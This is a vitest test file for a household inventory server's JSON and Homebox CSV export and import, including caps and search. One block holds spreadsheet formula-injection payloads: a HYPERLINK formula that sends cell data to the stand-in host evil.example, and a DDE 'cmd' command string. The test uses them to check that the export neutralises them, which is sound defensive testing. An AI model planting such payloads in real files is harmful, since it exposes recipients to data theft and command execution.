// Moving the inventory in and out over HTTP: the JSON export (no file paths), the Homebox CSV
// export and import (round trip into a fresh server gives the same devices), and a bad file.
import http from 'node:http';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { parse as parseCsv } from 'csv-parse/sync';
import { request } from 'undici';
import { startTestServer, type TestServer } from '../harness/start-server.js';
import { HomeInventoryStore } from '../../server/modules/home-inventory/store.js';

const importCsv = async (s: TestServer, csv: string, type = 'text/csv') => {
  const res = await request(`${s.url}/api/home/import`, { method: 'POST', body: csv, headers: { cookie: s.member.cookie!, origin: s.url, 'content-type': type } });
  return { status: res.statusCode, body: (await res.body.json()) as any };
};
const count = async (s: TestServer) => Number(((await s.handle.deps.db('home_devices').count({ n: '*' }).first()) as { n: number }).n);

describe('home inventory: export and Homebox import', () => {
  let a: TestServer;
  let b: TestServer;
  beforeAll(async () => {
    [a, b] = await Promise.all([startTestServer({ seed: 'household' }), startTestServer({ seed: 'household' })]);
  });
  afterAll(async () => {
    await a.close();
    await b.close();
  });

  it('exports JSON with files by label, links and service log, and never a file path or the manual text', async () => {
    const d = (await a.member.post('/api/home/devices', { name: 'Boiler', brand: 'Vaillant', category: 'appliance' })).body.device;
    await a.member.post(`/api/home/devices/${d.id}/links`, { category: 'manual', label: 'Manual', url: 'https://example.com/manual.pdf' });
    await a.member.post(`/api/home/devices/${d.id}/service`, { date: '2026-01-05', type: 'maintenance', description: 'Yearly service' });
    await new HomeInventoryStore(a.handle.deps.db).insertFile({ id: 'f1', deviceId: d.id, label: 'Receipt', filePath: `${d.id}/f1.pdf`, thumbPath: null, fileType: 'pdf', contentType: 'application/pdf', bytes: 9, source: 'user', comment: null, createdBy: null, createdAt: '2026-01-01T00:00:00Z' });
    await new HomeInventoryStore(a.handle.deps.db).updateDevice(d.id, { manualPath: `${d.id}/f1.pdf`, manualText: 'SECRET-MANUAL-TEXT' });
    const res = await a.member.get('/api/home/export');
    expect(res.status).toBe(200);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="hearth-inventory.json"/);
    const data = JSON.parse(res.text);
    const boiler = data.devices.find((x: { id: string }) => x.id === d.id);
    expect(boiler).toMatchObject({ name: 'Boiler', fields: { brand: 'Vaillant', category: 'appliance' }, files: [{ label: 'Receipt', fileType: 'pdf' }], links: [{ label: 'Manual' }], serviceLog: [{ description: 'Yearly service' }] });
    expect(res.text).not.toContain('f1.pdf');
    expect(res.text).not.toContain('SECRET-MANUAL-TEXT');
    expect(res.text).not.toMatch(/filePath|manualPath|photoPath/);
    expect((await a.member.get('/api/home/export?format=xml')).status).toBe(400);
  });

  it('round-trips through a Homebox CSV into a fresh Hearth: the same devices', async () => {
    await a.member.post('/api/home/devices', {
      name: 'Washing machine',
      brand: 'Miele',
      model: 'WWD 320',
      serialNumber: 'SN, "quoted"',
      category: 'appliance',
      location: 'Utility room',
      owner: 'Sam',
      specs: { Capacity: '8 kg', 'Spin speed': '1400 rpm' },
      manufacturedDate: '2023',
      purchaseDate: '2024-02-29',
      purchasePrice: 899.99,
      purchaseStore: 'Kitchen Store',
      warrantyExpires: '2027-02-28',
      warrantyNotes: 'Two years, then extended',
      supportUrl: 'https://www.miele.com/support',
      supportPhone: '+44 330 160 6600',
      notes: 'Line one\nLine two',
    });
    await a.member.post('/api/home/devices', { name: 'Drill', category: 'tool' });
    const csv = await a.member.get('/api/home/export?format=homebox');
    expect(csv.status).toBe(200);
    expect(String(csv.headers['content-type'])).toMatch(/^text\/csv/);
    expect(csv.headers['content-disposition']).toMatch(/attachment; filename="hearth-inventory-homebox.csv"/);
    const header = csv.text.split('\n')[0]!.split(',');
    expect(header.slice(0, 7)).toEqual(['HB.import_ref', 'HB.location', 'HB.tags', 'HB.asset_id', 'HB.archived', 'HB.url', 'HB.name']);
    expect(header).toEqual(expect.arrayContaining(['HB.manufacturer', 'HB.model_number', 'HB.serial_number', 'HB.purchase_price', 'HB.warranty_expires', 'HB.field.Capacity']));

    const imported = await importCsv(b, csv.text);
    expect(imported.status, JSON.stringify(imported.body)).toBe(200);
    expect(imported.body).toEqual({ imported: 3, skipped: [] });
    const pick = (d: Record<string, unknown>) => {
      const { id: _id, createdAt: _c, updatedAt: _u, createdBy: _cb, canDelete: _cd, lookupError: _le, files: _f, links: _l, serviceLog: _s, hasManual: _hm, manualTextChars: _mc, ...rest } = d;
      // the manual (a file) and the files themselves do not travel in a CSV
      return rest;
    };
    const all = async (s: TestServer) => {
      const list = (await s.member.get('/api/home/devices')).body.devices as { id: string }[];
      return Promise.all(list.map(async (x) => pick((await s.member.get(`/api/home/devices/${x.id}`)).body.device)));
    };
    expect(await all(b)).toEqual(await all(a));
    // importing the same file again adds nothing: the import refs are already there
    const again = await importCsv(b, csv.text);
    expect(again.body.imported).toBe(0);
    expect(again.body.skipped).toHaveLength(3);
    expect(again.body.skipped[0].reason).toMatch(/already in the inventory/);
  });

  it('imports a Homebox export (older column names, US dates, tags, custom fields), listing the rows it could not read', async () => {
    await b.handle.deps.db('home_devices').delete();
    const csv = [
      'HB.import_ref,HB.location,HB.labels,HB.quantity,HB.name,HB.description,HB.insured,HB.serial_number,HB.model_number,HB.manufacturer,HB.notes,HB.purchase_from,HB.purchase_price,HB.purchase_time,HB.lifetime_warranty,HB.warranty_expires,HB.warranty_details,HB.field.Colour',
      ',Garage,Tool; Power tools,2,Cordless drill,18V drill,true,123,DHP482,Makita,,Amazon,129.5,10/13/2021,false,10/13/2024,,Teal',
      ',Office,,1,,No name here,,,,,,,,,,,,',
      ',Office,,1,Lamp,,,,,,,,,31/31/2020,,,,',
      ',Office,,1,Desk,,,,,,,,,0001-01-01,,2030-01-31T00:00:00Z,,',
    ].join('\n');
    const r = await importCsv(b, csv);
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    expect(r.body.imported).toBe(2);
    expect(r.body.skipped).toEqual([
      { row: 3, reason: expect.stringMatching(/no name/) },
      { row: 4, reason: expect.stringMatching(/purchase date “31\/31\/2020”/) },
    ]);
    const list = (await b.member.get('/api/home/devices?q=drill')).body.devices;
    const drill = (await b.member.get(`/api/home/devices/${list[0].id}`)).body.device;
    expect(drill).toMatchObject({
      name: 'Cordless drill',
      brand: 'Makita',
      model: 'DHP482',
      category: 'tool',
      location: 'Garage',
      purchaseDate: '2021-10-13',
      purchasePrice: 129.5,
      purchaseStore: 'Amazon',
      warrantyExpires: '2024-10-13',
      notes: '18V drill',
      specs: { Tags: 'Power tools', Quantity: '2', Insured: 'yes', Colour: 'Teal' },
      lookupStatus: 'skipped',
    });
    const desk = (await b.member.get('/api/home/devices?q=desk')).body.devices[0];
    expect(desk).toMatchObject({ purchaseDate: null, warrantyExpires: '2030-01-31' });
  });

  it('refuses a file that is not a Homebox CSV with 400 and writes nothing', async () => {
    const before = await count(b);
    const broken = await importCsv(b, 'HB.name,HB.manufacturer\n"Unclosed quote,Bosch\nKettle,Bosch\n');
    expect(broken.status).toBe(400);
    expect(broken.body.error.message).toMatch(/not a CSV Hearth can read/);
    const notHomebox = await importCsv(b, 'name,brand\nKettle,Bosch\n');
    expect(notHomebox.status).toBe(400);
    expect(notHomebox.body.error.message).toMatch(/no HB.name column/);
    expect((await importCsv(b, '', 'text/csv')).status).toBe(400);
    expect((await importCsv(b, '{"a":1}', 'application/json')).status).toBe(400);
    expect(await count(b)).toBe(before);
  });

  it('writes all rows or none when the database refuses one', async () => {
    const before = await count(b);
    const transfer = b.handle.deps.home.transfer as unknown as { deps: { store: { transaction: (fn: (s: unknown) => Promise<unknown>) => Promise<unknown> } } };
    const store = transfer.deps.store;
    const real = store.transaction.bind(store);
    let n = 0;
    store.transaction = (fn) =>
      real(async (tx: any) => {
        const insert = tx.insertDevice.bind(tx);
        tx.insertDevice = async (d: unknown) => {
          if (++n === 2) throw new Error('disk full');
          return insert(d);
        };
        return fn(tx);
      });
    try {
      const r = await importCsv(b, 'HB.name\nOne\nTwo\nThree\n');
      expect(r.status).toBe(500);
    } finally {
      store.transaction = real;
    }
    expect(await count(b)).toBe(before);
  });
});

describe('home inventory: the Homebox CSV export never carries a spreadsheet formula', () => {
  let a: TestServer;
  let b: TestServer;
  beforeAll(async () => {
    [a, b] = await Promise.all([startTestServer({ seed: 'household' }), startTestServer({ seed: 'household' })]);
  });
  afterAll(async () => {
    await a.close();
    await b.close();
  });

  // the payloads of the attack probe (issue 29, item 3), plus values that only look like them
  const NAMES = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', "'quoted from the start", "''two quotes", 'Plain kettle'];

  it('prefixes a quote to every cell a spreadsheet would read as a formula, and importing the file gives the same values back', async () => {
    for (const name of NAMES) {
      const r = await a.member.post('/api/home/devices', { name, brand: '=1+1', model: '-DW 5', notes: '@mention me', supportPhone: '+44 330 160 6600', specs: { Size: '=A1*2', Grade: "'A" } });
      expect(r.status, JSON.stringify(r.body)).toBe(201);
    }
    const csv = await a.member.get('/api/home/export?format=homebox');
    expect(csv.status).toBe(200);
    const cells = (parseCsv(csv.text, { relax_column_count: true }) as string[][]).flat();
    // nothing a spreadsheet would evaluate: every such cell opens with the quote that neutralises it
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining(['\'=HYPERLINK("http://evil.example/?d="&A1,"Click")', "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "''quoted from the start", "'''two quotes", 'Plain kettle', "'=1+1", "'-DW 5", "'+44 330 160 6600"]));

    const imported = await importCsv(b, csv.text);
    expect(imported.status, JSON.stringify(imported.body)).toBe(200);
    expect(imported.body).toEqual({ imported: NAMES.length, skipped: [] });
    const list = (await b.member.get('/api/home/devices')).body.devices as Array<{ id: string; name: string }>;
    expect(list.map((d) => d.name).sort()).toEqual([...NAMES].sort());
    for (const { id } of list) {
      const d = (await b.member.get(`/api/home/devices/${id}`)).body.device;
      expect(d).toMatchObject({ brand: '=1+1', model: '-DW 5', notes: '@mention me', supportPhone: '+44 330 160 6600', specs: { Size: '=A1*2', Grade: "'A" } });
    }
  });

  it('keeps a quote that opens a value in a file that came from Homebox itself', async () => {
    await b.handle.deps.db('home_devices').delete();
    const r = await importCsv(b, "HB.import_ref,HB.url,HB.name,HB.manufacturer\n,https://homebox.example/item/1,'Quoted name,'Acme\n");
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    const [d] = (await b.member.get('/api/home/devices')).body.devices;
    expect(d).toMatchObject({ name: "'Quoted name", brand: "'Acme" });
  });
});

describe('home inventory: an import file is read off the event loop, within caps', () => {
  let s: TestServer;
  beforeAll(async () => {
    s = await startTestServer({ seed: 'household' });
  });
  afterAll(() => s.close());

  it('refuses a header of 100,000 columns, a row wider than the cap and more than 5,000 items with a 400 and a sentence, writing nothing', async () => {
    const wide = `${['HB.name', ...Array.from({ length: 100_000 }, (_, i) => `HB.field.c${i}`)].join(',')}\nKettle\n`;
    const r1 = await importCsv(s, wide);
    expect(r1.status).toBe(400);
    expect(r1.body.error).toEqual({ code: 'too_many_columns', message: expect.stringMatching(/^This file has more than 1,000 columns; .*Export the items from Homebox again/) });
    const wideRow = `HB.name,HB.manufacturer\nKettle,${Array.from({ length: 1_500 }, () => 'x').join(',')}\n`;
    const r2 = await importCsv(s, wideRow);
    expect(r2.status).toBe(400);
    expect(r2.body.error.code).toBe('too_many_columns');
    const long = `HB.name\n${Array.from({ length: 5_001 }, (_, i) => `Kettle ${i}`).join('\n')}\n`;
    const r3 = await importCsv(s, long);
    expect(r3.status).toBe(400);
    expect(r3.body.error).toEqual({ code: 'too_many_rows', message: 'This file has more than 5,000 items; Hearth imports up to 5,000 at a time. Split it and import each part.' });
    expect(await count(s)).toBe(0);
  });

  it('answers a request made while a large file is parsed before it answers the import', async () => {
    // ~4 MB of rows that end in an unclosed quote: the whole file is parsed before the answer (400)
    const row = `"Kettle","Bosch","${'Descale every three months. '.repeat(30)}"`;
    const file = `HB.name,HB.manufacturer,HB.notes\n${Array.from({ length: 4_500 }, () => row).join('\n')}\n"Unclosed,Bosch,x\n`;
    let ready: Promise<unknown> | null = null;
    // the moment the server has read the whole import body (this test runs in the server's
    // process): from here on the file is being parsed, and a request made now must not wait for it
    const emit = http.IncomingMessage.prototype.emit;
    const spy = vi.spyOn(http.IncomingMessage.prototype, 'emit').mockImplementation(function (this: http.IncomingMessage & { originalUrl?: string }, event: string | symbol, ...args: unknown[]) {
      if (event === 'end' && this.originalUrl === '/api/home/import' && !ready) ready = request(`${s.url}/api/system/ready`).then((r) => r.body.text());
      return emit.call(this, event, ...args);
    });
    const from = s.logger.lines.length;
    try {
      const imported = await importCsv(s, file);
      expect(imported.status).toBe(400);
      expect(imported.body.error.message).toMatch(/not a CSV Hearth can read/);
      expect(ready, 'the server read the import body').not.toBeNull();
      await ready;
    } finally {
      spy.mockRestore();
    }
    // the order the server finished its answers in (its request log): the ready route's first. On
    // the main thread the parse held every other request until the import had been answered.
    const answered = s.logger.lines
      .slice(from)
      .filter((l) => l.msg === 'request')
      .map((l) => `${String(l.path)} ${String(l.status)}`);
    expect(answered).toEqual(['/api/system/ready 200', '/api/home/import 400']);
  });
});

describe('home inventory in unified search', () => {
  let s: TestServer;
  beforeAll(async () => {
    s = await startTestServer({ seed: 'household' });
  });
  afterAll(() => s.close());

  it('finds a device by brand for any member, linking to its page; and offers the Inventory page for "warranty"', async () => {
    const d = (await s.admin.post('/api/home/devices', { name: 'Dishwasher', brand: 'Bosch', model: 'SMS6', location: 'Kitchen' })).body.device;
    const r = await s.member.get('/api/search?q=bosch');
    expect(r.status).toBe(200);
    const group = r.body.groups.find((g: { type: string }) => g.type === 'device');
    expect(group).toMatchObject({ label: 'Inventory', results: [{ type: 'device', id: d.id, title: 'Dishwasher', snippet: 'Bosch SMS6 · Kitchen', url: `/inventory/${d.id}` }] });
    const pages = (await s.member.get('/api/search?q=warranty&types=page')).body.groups[0];
    expect(pages.results.map((p: { id: string }) => p.id)).toContain('inventory');
  });
});
